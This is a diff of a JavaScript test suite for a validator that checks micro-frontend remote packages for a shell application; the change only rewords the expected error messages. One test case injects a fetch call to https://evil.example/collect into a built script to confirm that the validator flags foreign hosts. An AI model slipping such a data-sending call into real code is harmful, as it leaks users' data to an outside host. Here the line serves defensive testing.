@@ -69,12 +69,12 @@ const WRONG = [
   [
     'asks for another version of a shared library',
     entryScript((text) => text.replace(/(shareKey:"react\/jsx-runtime",.*?requiredVersion:)"[^"]+"/, '$1"^18.3.1"')),
-    /^It asks for react\/jsx-runtime \^18\.3\.1, and the shell gives 19\.\d+\.\d+\.$/,
+    /^It requires react\/jsx-runtime \^18\.3\.1, but the shell provides 19\.\d+\.\d+\.$/,
   ],
   [
     'takes a library that the shell does not share',
     entryScript((text) => text.replace('shareKey:"react/jsx-runtime"', 'shareKey:"preact"')),
-    'It takes preact from the shell, which does not share it.',
+    'It uses preact from the shell, which does not share it.',
   ],
   [
     'uses an export that the shell does not have',
@@ -88,32 +88,32 @@ const WRONG = [
       manifest(({ metaData }) => (metaData.contract = 2))(folder);
       script((text) => text.replace('{contract:1,', '{contract:2,'))(folder);
     },
-    'It is built for contract 2, and the shell speaks 1.',
+    'It is built for contract 2, but the shell supports 1.',
   ],
   [
     'is built for another contract than its descriptor names',
     manifest(({ metaData }) => (metaData.contract = 2)),
-    'Its descriptor names contract 1, and it is built for contract 2.',
+    'Its descriptor says contract 1, but it is built for contract 2.',
   ],
   [
     'has a module with another contract than its descriptor names',
     script((text) => text.replace('{contract:1,', '{contract:2,')),
-    'Its descriptor names contract 1, and it is built for contract 2.',
+    'Its descriptor says contract 1, but it is built for contract 2.',
   ],
   [
     'lets in whom the shell does not know',
     path({ access: 'vip' }),
-    "The access of /lucky-draw, 'vip' is none of public, player, betting.",
+    "The access of /lucky-draw, 'vip' must be one of public, player, betting.",
   ],
   [
     'has an entry in a place that the shell does not have',
     link({ place: 'sidebar' }),
-    "The place of 'Lucky draw', 'sidebar' is none of menu, bar, shortcut, banner, histories.",
+    "The place of 'Lucky draw', 'sidebar' must be one of menu, bar, shortcut, banner, histories.",
   ],
   [
     'has too many entries in a place',
     descriptor((own) => ({ ...own, navigation: Array.from({ length: 5 }, () => own.navigation[0]) })),
-    'It has 5 entries in menu, and a remote may have 4.',
+    'It has 5 entries in menu, but a remote may have 4.',
   ],
   [
     'has a wildcard path',
@@ -146,52 +146,52 @@ const WRONG = [
   [
     'comes from another team',
     (folder) => edit(join(folder, 'package.json'), (text) => text.replace('@ank/remote-lucky-draw', '@other/draw')),
-    'The name lucky-draw belongs to the package @ank/remote-lucky-draw, and this is @other/draw.',
+    'The name lucky-draw belongs to the package @ank/remote-lucky-draw, not to @other/draw.',
   ],
   [
     'has too large scripts',
     script((text) => `${text};"${randomBytes(60_000).toString('base64')}"`),
-    /^Its scripts have \d+ KB gzip, and 56 KB are allowed\.$/,
+    /^Its scripts have \d+ KB gzip, but only 56 KB are allowed\.$/,
   ],
   [
     'has too large a picture',
     file('photo.0123456789.webp', randomBytes(120_000)),
-    'photo.0123456789.webp has 118 KB gzip, and 100 KB are allowed.',
+    'photo.0123456789.webp has 118 KB gzip, but only 100 KB are allowed.',
   ],
   [
     'has a script that the entry knows no hash of',
     file('more.0123456789.js', ''),
-    'more.0123456789.js has no hash in the entry, so that browsers would not check it.',
+    'more.0123456789.js has no hash in the entry, so browsers would not check it.',
   ],
   [
     'has a file whose name stays when it changes',
     file('photo.webp', ''),
-    'photo.webp has no hash in its name, so that browsers would keep an older one.',
+    'photo.webp has no hash in its name, so browsers would keep an older version.',
   ],
   [
     'calls another host',
     script((text) => `${text};fetch("https://evil.example/collect?at="+1)`),
-    /^__federation_expose_remote\.\w+\.js holds the foreign address https:\/\/evil\.example\/collect\?at=\.$/,
+    /^__federation_expose_remote\.\w+\.js contains the foreign address https:\/\/evil\.example\/collect\?at=\.$/,
   ],
   [
     'loads its parts from another host',
     manifest(({ metaData }) => (metaData.publicPath = 'https://cdn.example/')),
-    "Its files are bound to https://cdn.example/: build it with the public path 'auto'.",
+    "Its files require the path https://cdn.example/: build it with the public path 'auto'.",
   ],
   [
     'defines the container of another remote',
     manifest(({ metaData }) => (metaData.globalName = 'ank_gali')),
-    'Its container is ank_gali, and that of lucky-draw is ank_lucky_draw_ and its version.',
+    'Its container is ank_gali, but must be ank_lucky_draw_ followed by its version.',
   ],
   [
     'has no version in its container, so that it could not run beside another',
     manifest(({ metaData }) => (metaData.globalName = 'ank_lucky_draw')),
-    'Its container is ank_lucky_draw, and that of lucky-draw is ank_lucky_draw_ and its version.',
+    'Its container is ank_lucky_draw, but must be ank_lucky_draw_ followed by its version.',
   ],
   [
     'exposes more than its module',
     manifest(({ exposes }) => exposes.push({ ...exposes[0], path: './more' })),
-    'It exposes ./remote, ./more, and must expose ./remote alone.',
+    'It exposes ./remote, ./more, but must expose ./remote and nothing else.',
   ],
   [
     'reaches the layout with its style sheet',
@@ -201,24 +201,24 @@ const WRONG = [
   [
     'has a script that is none',
     script(() => '<!doctype html>'),
-    /^__federation_expose_remote\.\w+\.js is no script: Unexpected token/,
+    /^__federation_expose_remote\.\w+\.js is not a script: Unexpected token/,
   ],
   [
     'has a name that is another',
     descriptor((own) => ({ ...own, name: 'gali' })),
-    'It is published as lucky-draw, and its descriptor names gali.',
+    'It is published as lucky-draw, but its descriptor says gali.',
   ],
   [
     'has a field that nobody reads',
     descriptor((own) => ({ ...own, colour: 'red' })),
     "the descriptor has no field 'colour'.",
   ],
-  ['names a path twice', morePaths('/Lucky-Draw'), /^\/(Lucky-Draw|lucky-draw) is named twice\.$/],
+  ['names a path twice', morePaths('/Lucky-Draw'), /^\/(Lucky-Draw|lucky-draw) is listed twice\.$/],
   ['takes a path of the server', morePaths('/api-lucky'), '/api-lucky is a path of the server.'],
   [
     'leads to a screen of others',
     link({ path: '/withdraw' }),
-    "'Lucky draw' leads to /withdraw, which is no path of the remote.",
+    "'Lucky draw' leads to /withdraw, which is not a path of the remote.",
   ],
   [
     'leads out of the site',
@@ -255,7 +255,7 @@ test('a build notes its contract; an older build without the note is still accep
 test('a package does not build while its descriptor names another contract than the installed one', async () => {
   const folder = join(work, 'unlike');
   const wrong = () => descriptor((own) => ({ ...own, contract: 2 }))(folder);
-  const fault = { message: 'The descriptor of lucky-draw names contract 2, and its @ank/contract is of 1.' };
+  const fault = { message: 'The descriptor of lucky-draw says contract 2, but its @ank/contract has 1.' };
   await assert.rejects(buildTemplate(folder, NAME, wrong), fault);
 });
 
